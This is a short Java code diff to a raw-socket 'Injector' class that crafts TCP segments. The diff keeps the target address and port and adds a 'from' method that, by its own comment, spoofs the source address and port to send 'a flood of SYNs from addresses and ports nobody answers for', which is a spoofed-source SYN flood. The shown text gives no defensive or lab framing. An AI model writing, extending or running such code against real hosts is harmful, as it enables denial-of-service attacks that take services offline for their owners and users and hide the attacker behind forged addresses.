@@ -21,11 +21,15 @@ public final class Injector implements AutoCloseable {
     private final int fd;
     private final byte[] destination;
     private final SegmentWriter writer = new SegmentWriter();
+    private final byte[] target;
+    private final int targetPort;
     private final ByteBuf out = Unpooled.buffer(2048);
     private long sent;
 
     private Injector(int fd, byte[] src, byte[] dst, int srcPort, int dstPort) {
         this.fd = fd;
+        target = dst;
+        targetPort = dstPort;
         writer.setAddresses(src, dst).setPorts(srcPort, dstPort).setTtl(TTL).setWindow(65535);
         destination = new byte[16]; // struct sockaddr_in: family, port 0, address, zero
         destination[0] = (byte) RawSocketCalls.AF_INET;
@@ -63,6 +67,12 @@ public final class Injector implements AutoCloseable {
         }
         sent++;
         return true;
+    }
+
+    /** Spoofs another source from now on: a flood of SYNs from addresses and ports nobody answers for. */
+    public Injector from(byte[] src, int srcPort) {
+        writer.setAddresses(src, target).setPorts(srcPort, targetPort);
+        return this;
     }
 
     public long sent() {
